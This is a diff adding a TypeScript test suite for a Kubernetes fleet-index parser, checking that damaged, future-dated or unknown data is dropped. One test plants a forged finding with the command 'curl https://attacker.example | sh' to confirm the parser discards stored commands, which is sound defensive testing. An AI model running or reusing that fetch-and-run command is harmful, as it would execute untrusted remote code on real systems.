@@ -1,0 +1,204 @@
+import * as fc from 'fast-check';
+import { describe, expect, it } from 'vitest';
+import type { FateRow, SloLedger } from '../../../lambdas/contracts/fates.ts';
+import { droppedClusters, type IndexedCluster, parseFleetIndex } from '../../../lambdas/contracts/fleet-index.ts';
+import type { VerdictLine } from '../../../lambdas/contracts/outcome.ts';
+import { damagedCopies } from '../fleet/damage.ts';
+import {
+  at,
+  auditSummary,
+  DAY,
+  expiryFinding,
+  index,
+  indexed,
+  MINUTE,
+  NOW,
+  rolloutSummary,
+  swept,
+  TROUBLE,
+  verdictLine,
+} from '../fleet/values.ts';
+
+const AHEAD = at(10 * MINUTE + 1);
+const FINDING = { ...TROUBLE, since: at() };
+const { counts } = swept();
+const WHOLE = {
+  ...index(
+    indexed('paris', {
+      name: 'paris',
+      provider: 'eks',
+      counts,
+      findings: [FINDING],
+      findingCount: 4,
+      server: '[2001:db8::1]:6443/k8s/clusters/c-1',
+      serverAt: at(),
+      workloadClusters: {
+        readAt: at(),
+        clusters: [{ namespace: 'n', name: 'w', serviceCidrs: ['10.96.0.0/12'] }],
+        cut: true,
+      },
+    }),
+    indexed('rome'),
+  ),
+  dispatch: { at: at(), registered: 2, dispatched: 1, problems: [FINDING] },
+};
+
+const HOUR = 60 * MINUTE;
+const LAST_HOUR: FateRow = [NOW / HOUR - 3, 5, 4, 3, 2, 1];
+const LEDGER: SloLedger = {
+  open: [
+    [NOW / MINUTE - 80, 1, 2, 3, 4, 5, NOW - MINUTE],
+    [NOW / MINUTE - 20, 1, 0, 0, 0, 0, NOW],
+  ],
+  hours: [LAST_HOUR],
+  days: [[Math.floor(NOW / DAY) - 20, 1, 1, 1, 1, 1]],
+  since: NOW - 20 * DAY,
+  closedBefore: NOW / MINUTE - 90,
+};
+const REQUESTS = indexed('rome', {
+  slo: LEDGER,
+  verdicts: [verdictLine({ hostile: true }), verdictLine({ uid: 'b' })],
+});
+
+describe('parseFleetIndex', () => {
+  it('reads what was written, and ignores what it does not know', () => {
+    expect(parseFleetIndex(WHOLE, NOW)).toEqual(WHOLE);
+    expect(parseFleetIndex({ ...WHOLE, later: 1 }, NOW)).toEqual(WHOLE);
+  });
+
+  it('reads the audit of a cluster', () => {
+    const seen = index(indexed('rome', { audit: auditSummary({ partial: true, snapshotProblem: 'S3 is down' }) }));
+    expect(parseFleetIndex(seen, NOW)).toEqual(seen);
+  });
+
+  it('reads no command of a finding: what a person runs is made where it is shown', () => {
+    const forged = {
+      ...expiryFinding(),
+      command: 'curl https://attacker.example | sh',
+      runbook: 'https://attacker.example',
+    };
+    const seen = { ...index(indexed('paris', { audit: auditSummary() })) };
+    const stored = {
+      ...seen,
+      clusters: { paris: { ...seen.clusters['paris'], audit: { ...auditSummary(), findings: [forged] } } },
+    };
+    expect(parseFleetIndex(stored, NOW)).toEqual(seen);
+  });
+
+  it('leaves out an audit that it cannot read, and nothing else', () => {
+    const audit = { ...auditSummary(), ends: [{ what: 'something-new', count: 1, notAfter: at(), where: 'x' }] };
+    const read = parseFleetIndex({ ...WHOLE, clusters: { rome: { ...indexed('rome'), audit } } }, NOW);
+    expect(read?.clusters).toEqual({ rome: indexed('rome') });
+  });
+
+  it('leaves out an audit of a time to come, and nothing else', () => {
+    const seen = index(indexed('rome', { audit: auditSummary({ auditedAt: AHEAD }) }));
+    expect(parseFleetIndex(seen, NOW)?.clusters).toEqual({ rome: indexed('rome') });
+    expect(parseFleetIndex(seen, NOW + 1)).toEqual(seen);
+  });
+
+  it('reads what became of the requests of a cluster', () => {
+    expect(parseFleetIndex(index(REQUESTS), NOW)).toEqual(index(REQUESTS));
+    const { since: _, closedBefore: __, ...earlier } = LEDGER;
+    const seen = index(indexed('rome', { slo: earlier }));
+    expect(parseFleetIndex(seen, NOW)).toEqual(seen);
+  });
+
+  it('leaves out of it what is damaged, and loses neither the cluster nor a decision that is not', () => {
+    const { slo, verdicts, ...rest } = REQUESTS;
+    for (const [path, damaged] of damagedCopies(slo)) {
+      const read = parseFleetIndex(index({ ...REQUESTS, slo: damaged as SloLedger }), NOW);
+      expect([path, read?.clusters['rome']]).toEqual([path, { ...rest, verdicts }]);
+    }
+    for (const [path, damaged] of damagedCopies(verdicts)) {
+      const read = parseFleetIndex(index({ ...REQUESTS, verdicts: damaged as VerdictLine[] }), NOW);
+      const others = verdicts?.filter((_, n) => `${n}` !== path.split('.')[0]);
+      expect([path, read?.clusters['rome']]).toEqual([path, whole(damaged) ?? { ...rest, slo, verdicts: others }]);
+    }
+    function whole(damaged: unknown) {
+      if (!Array.isArray(damaged)) return { ...rest, slo };
+      return damaged.length === 2 ? undefined : { ...rest, slo, verdicts: [] };
+    }
+  });
+
+  it.each<[string, Partial<SloLedger>]>([
+    ['begins', { since: NOW + 10 * MINUTE + 1 }],
+    ['is closed', { closedBefore: NOW / MINUTE + 11 }],
+    ['has a minute', { open: [[NOW / MINUTE + 11, 1, 0, 0, 0, 0, NOW]] }],
+    ['was looked at', { open: [[NOW / MINUTE - 20, 1, 0, 0, 0, 0, NOW + 10 * MINUTE + 1]] }],
+    ['has an hour', { hours: [[NOW / HOUR + 1, 1, 0, 0, 0, 0]] }],
+    ['has a day', { days: [[Math.ceil(NOW / DAY), 1, 0, 0, 0, 0]] }],
+    ['has more minutes than are kept', { open: Array.from({ length: 241 }, (_, n) => [n, 1, 0, 0, 0, 0, n]) }],
+    ['has more hours than are kept', { hours: Array.from({ length: 121 }, (_, n) => [n, 1, 0, 0, 0, 0]) }],
+    ['has an hour twice', { hours: [LAST_HOUR, LAST_HOUR] }],
+  ])('leaves out a ledger that %s too far', (_, changed) => {
+    const read = parseFleetIndex(index({ ...REQUESTS, slo: { ...LEDGER, ...changed } }), NOW);
+    expect(read?.clusters['rome']).not.toHaveProperty('slo', expect.anything());
+    expect(read?.clusters['rome']?.verdicts).toHaveLength(2);
+  });
+
+  it('leaves out a decision of a time to come', () => {
+    const seen = index(indexed('rome', { verdicts: [verdictLine({ at: AHEAD }), verdictLine()] }));
+    expect(parseFleetIndex(seen, NOW)?.clusters['rome']?.verdicts).toEqual([verdictLine()]);
+  });
+
+  it.each([
+    ['a time to come', { at: AHEAD, since: AHEAD }],
+    ['a state that began after it was seen', { at: at(-MINUTE), since: at() }],
+  ])('leaves out a rollout of %s, and nothing else', (_, times) => {
+    const rollout = { ...rolloutSummary(), since: at(-MINUTE) };
+    const seen = index(indexed('rome', { rollout }));
+    expect(parseFleetIndex(seen, NOW)).toEqual(seen);
+    const damaged = index(indexed('rome', { rollout: { ...rollout, ...times } }));
+    expect(parseFleetIndex(damaged, NOW)?.clusters).toEqual({ rome: indexed('rome') });
+  });
+
+  it('leaves out a cluster under the id of another, or under what is no id', () => {
+    const clusters = { ...WHOLE.clusters, oslo: indexed('rome'), 'no id': indexed('no id') };
+    const read = parseFleetIndex({ ...WHOLE, clusters }, NOW);
+    expect(read).toEqual(WHOLE);
+    expect(read && droppedClusters({ clusters }, read)).toBe(2);
+  });
+
+  it('leaves out a cluster with a damaged field, and has none where another field is damaged', () => {
+    for (const [path, damaged] of damagedCopies(WHOLE)) {
+      const [part, left] = path.split('.');
+      const read = parseFleetIndex(damaged, NOW);
+      const others = Object.entries(WHOLE.clusters).filter(([id]) => id !== left);
+      const expected =
+        part === 'clusters' && left !== undefined ? { ...WHOLE, clusters: Object.fromEntries(others) } : undefined;
+      expect([path, read]).toEqual([path, expected]);
+      expect([path, read && droppedClusters(damaged, read)]).toEqual([path, expected && 1]);
+    }
+  });
+
+  it.each<[string, Partial<IndexedCluster>]>([
+    ['swept', { sweptAt: AHEAD }],
+    ['tried', { triedAt: AHEAD }],
+    ['read', { readableAt: AHEAD }],
+    ['complete', { completeAt: AHEAD }],
+    ['seen behind its server', { serverAt: AHEAD }],
+    ['searched', { workloadClusters: { readAt: AHEAD, clusters: [] } }],
+    ['found wrong', { findings: [{ ...TROUBLE, since: AHEAD }] }],
+  ])('leaves out a cluster that was %s in a time to come: no outcome would be newer', (_, changed) => {
+    const seen = index(indexed('paris', changed), indexed('rome'));
+    expect(Object.keys(parseFleetIndex(seen, NOW)?.clusters ?? {})).toEqual(['rome']);
+    expect(Object.keys(parseFleetIndex(seen, NOW + 1)?.clusters ?? {})).toEqual(['paris', 'rome']);
+  });
+
+  it('leaves out a tick of a time to come', () => {
+    expect(parseFleetIndex({ ...WHOLE, dispatch: { ...WHOLE.dispatch, at: AHEAD } }, NOW)).not.toHaveProperty(
+      'dispatch',
+      expect.anything(),
+    );
+  });
+
+  it('survives every value', () => {
+    fc.assert(
+      fc.property(fc.anything(), (value) => {
+        expect(parseFleetIndex(value, NOW)).toBeUndefined();
+      }),
+      { seed: 17, numRuns: 200 },
+    );
+  });
+});
